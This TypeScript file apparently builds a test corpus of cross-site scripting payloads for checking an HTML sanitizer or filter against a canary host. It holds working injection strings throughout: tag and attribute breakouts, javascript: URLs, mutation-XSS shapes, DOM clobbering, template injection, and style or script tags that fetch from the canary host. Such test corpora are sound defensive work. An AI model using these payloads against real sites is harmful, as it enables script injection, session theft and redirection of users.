import { canary } from "./canary.ts";

/** The script that runs if one of these gets through: a function that the page watches, or a request to a host that does not exist. */
const actions = ["pwn()", "alert`1`", `location='https://${canary}/go'`, `fetch('//${canary}/f')`];

const image = (action: string): string => `<img src=x onerror="${action}">`;

/** Ends what the text may stand in, and begins an element of its own. */
const ways = [
  "",
  '">',
  "'>",
  "-->",
  "--!>",
  "]]>",
  "?>",
  "%>",
  "*/",
  "}}",
  ...[
    "title",
    "textarea",
    "style",
    "script",
    "noscript",
    "template",
    "iframe",
    "xmp",
    "select",
    "math",
    "svg",
  ].map((tag) => `</${tag}>`),
];

const elements = (action: string): string[] => [
  `<script>${action}</script>`,
  `<svg onload=${action}>`,
  `<svg><script>${action}</script></svg>`,
  `<svg><animate onbegin=${action} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${action}>#x"/></svg>`,
  `<math><maction xlink:href="javascript:${action}">x</maction></math>`,
  `<iframe srcdoc="<script>parent.${action}</script>"></iframe>`,
  `<iframe src="javascript:parent.${action}"></iframe>`,
  `<object data="javascript:${action}"></object>`,
  `<embed src="javascript:${action}">`,
  `<form action="javascript:${action}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${action}">x</button>`,
  `<details open ontoggle=${action}>x</details>`,
  `<input autofocus onfocus=${action}>`,
  `<video><source onerror=${action}></video>`,
  `<body onpageshow=${action}>`,
  `<a href="javascript:${action}">x</a>`,
  `<template><img src=x onerror=${action}></template>`,
  `<div style="animation:a" onanimationstart=${action}>x</div>`,
];

/** Where an attribute, a script's text or a template would have been the place. */
const breakouts = (action: string): string[] => [
  `" autofocus onfocus="${action}" x="`,
  `' onpointerenter='${action}' x='`,
  ` onmouseover=${action} `,
  `\`onerror=${action}`,
  `';${action};//`,
  `";${action};//`,
  `\${${action}}`,
  `{{constructor.constructor("${action}")()}}`,
  `\u2028${action}//`,
  `\\";${action};//`,
  `javascript:${action}`,
];

/** Text that a parser reads one way and, written out and read again, another way. */
const mutations = (action: string): string[] =>
  ["svg", "math", "math><mtext", "svg><desc", "svg><foreignObject", "table><caption"].flatMap((outer) =>
    ["style", "title", "noscript", "textarea", "xmp", "noembed"].map(
      (raw) => `<${outer}><${raw}><i title="</${raw}>${image(action).replaceAll('"', "")}">`,
    ),
  );

/** Elements whose names would stand in for what scripts ask a page for. */
export const clobbered = [
  "body",
  "currentScript",
  "createElement",
  "getElementById",
  "head",
  "Docent",
  "forms",
];
const clobbers = clobbered.flatMap((name) =>
  ["a", "form", "img", "input", "iframe", "object"].map((tag) => `<${tag} id=${name} name=${name} href=x:y>`),
);

const styles = [
  `<style>@import "https://${canary}/c";</style>`,
  `<p style="background:url(https://${canary}/b)">x</p>`,
  `<link rel=stylesheet href=https://${canary}/l>`,
  `<base href=https://${canary}/>`,
  `<meta http-equiv=refresh content="0;url=https://${canary}/m">`,
  `<script src=https://${canary}/s></script>`,
  `<img srcset="https://${canary}/i 1x">`,
  `red;background:url(https://${canary}/u)`,
  `var(--x, url(https://${canary}/v))`,
  "x:expression(pwn())",
  "*{display:none}",
];

/** Every shape once, in plain writing. */
export const shapes: string[] = [
  ...ways.map((way) => way + image("pwn()")),
  ...actions.flatMap((action) => [...elements(action), ...breakouts(action)]),
  ...mutations("pwn()"),
  ...clobbers,
  ...styles,
];
